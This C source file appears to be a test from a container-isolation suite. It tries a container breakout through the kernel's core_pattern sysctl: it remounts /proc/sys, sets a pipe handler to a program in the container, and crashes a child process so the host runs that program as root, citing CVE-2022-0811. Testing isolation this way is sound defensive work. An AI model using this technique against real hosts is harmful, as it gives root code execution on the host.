/**
 * @file
 * @brief core_pattern: the host's root runs a program of the container.
 *
 * /proc/sys/kernel/core_pattern says what to do with a core dump. If it begins
 * with |, the kernel starts that program, as root, in the host's namespaces.
 * The path is the host's too, and mountinfo gives it away. A read-only
 * /proc/sys stops nobody who may remount it; in a user namespace nobody may
 * write it, because the kernel asks for uid 0 of the host.
 *
 * CVE-2022-0811 (cr8escape) let a pod set this very sysctl.
 */
#include <signal.h>
#include <stdio.h>
#include <sys/mount.h>
#include <sys/resource.h>
#include <sys/wait.h>
#include <unistd.h>

#include "tests/attacks/breakouts/breakout.h"

BREAKOUT(core_pattern)
{
    char handler[128];

    snprintf(handler, sizeof(handler), "|%s/bin/prove core_pattern",
             root_on_host());
    mount(NULL, "/proc/sys", NULL, MS_REMOUNT | MS_BIND, NULL);
    if (put("/proc/sys/kernel/core_pattern", handler) < 0)
        return stopped("core_pattern");
    if (fork() == 0) {
        setrlimit(RLIMIT_CORE, &(struct rlimit){ 1 << 20, 1 << 20 });
        signal(SIGSEGV, SIG_DFL);
        raise(SIGSEGV);
    }
    wait(NULL);
    return 0;
}
